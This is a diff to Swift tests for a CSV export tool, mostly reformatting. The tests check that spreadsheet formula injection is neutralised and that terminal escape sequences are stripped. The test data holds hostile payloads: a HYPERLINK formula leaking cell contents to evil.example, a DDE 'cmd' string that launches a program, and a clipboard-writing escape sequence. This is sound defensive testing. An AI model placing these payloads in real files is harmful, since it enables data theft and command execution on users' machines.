@@ -15,7 +15,8 @@ import Testing
 
     @Test func formulaCellsGoOutAsTextUnlessRawAndComeBackExactly() throws {
         let board = TemporaryBoard()
-        let file = try importFile("""
+        let file = try importFile(
+            """
             id,name,company,phone,attr.note
             1,"=HYPERLINK(""http://evil.example/?""&A1,""Invoice"")",@SUM(A1:A9),+34 600 123 456,"-2+3+cmd|' /C calc'!A0"
             2,Plain Person,Acme,-5,'=already quoted once
@@ -25,12 +26,16 @@ import Testing
         let safe = try HandoffBinary.run(["export", "--db", board.path])
         #expect(safe.status == 0)
         let lines = safe.output.split(separator: "\n").map(String.init)
-        #expect(lines[1].hasPrefix("1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Invoice\"\")\",'@SUM(A1:A9),,'+34 600 123 456,"), "\(lines[1])")
+        #expect(
+            lines[1].hasPrefix("1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Invoice\"\")\",'@SUM(A1:A9),,'+34 600 123 456,"),
+            "\(lines[1])")
         #expect(lines[1].hasSuffix(",'-2+3+cmd|' /C calc'!A0"), "\(lines[1])")
         // A -5 is a number, not a formula; the file's own guard was taken off on import and is put back.
         #expect(lines[2].hasPrefix("2,Plain Person,Acme,,-5,") && lines[2].hasSuffix(",'=already quoted once"), "\(lines[2])")
         let raw = try HandoffBinary.run(["export", "--raw", "--db", board.path])
-        #expect(raw.output.split(separator: "\n")[1].hasPrefix("1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Invoice\"\")\",@SUM(A1:A9),,+34 600 123 456,"))
+        #expect(
+            raw.output.split(separator: "\n")[1].hasPrefix(
+                "1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Invoice\"\")\",@SUM(A1:A9),,+34 600 123 456,"))
 
         // Export, import into a new board, export: the same bytes.
         let first = board.folder + "/first.csv", second = board.folder + "/second.csv"
@@ -47,8 +52,9 @@ import Testing
         let board = TemporaryBoard()
         let file = try importFile("name,company\nClip,\"\(HostileText.clipboard)\"\n", into: board)
         #expect(try HandoffBinary.run(["import", file, "--db", board.path]).status == 0)
-        let process = try SpawnedProcess(["script", "-qec", "'\(HandoffBinary.path)' export --db '\(board.path)'", "/dev/null"],
-                                         environment: ["PATH": "/usr/bin:/bin", "TERM": "xterm", "LANG": "C.UTF-8"])
+        let process = try SpawnedProcess(
+            ["script", "-qec", "'\(HandoffBinary.path)' export --db '\(board.path)'", "/dev/null"],
+            environment: ["PATH": "/usr/bin:/bin", "TERM": "xterm", "LANG": "C.UTF-8"])
         #expect(process.waitBlocking() == 0)
         #expect(process.outputText.contains("Clip␛]52;c;SGVsbG8=␇board SA"), "\(process.outputText)")
         #expect(!process.output.contains(0x1B) && !process.output.contains(0x07))
